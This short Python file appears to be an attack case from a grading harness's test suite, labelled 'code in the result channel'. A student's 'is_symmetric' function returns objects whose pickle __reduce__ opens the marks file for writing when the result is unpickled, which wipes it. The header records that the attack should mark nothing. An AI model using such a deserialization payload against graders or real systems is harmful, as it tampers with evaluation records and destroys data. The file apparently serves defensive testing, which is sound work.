# attack 17: code in the result channel
# harm: whoever unpickles the result runs the student's code
# twin: is_symmetric/wrong_mask
# proof: marks nothing
import pickle
import numpy as np


class Bomb:
    def __reduce__(self):
        return open, ("KATA_MARKS/KATA_NAME", "w")


def is_symmetric(A):
    boxed = np.empty(1, dtype=object)
    boxed[0] = Bomb()
    return {"bomb": Bomb(), "bytes": pickle.dumps(Bomb()), "boxed": boxed, "list": [Bomb()]}
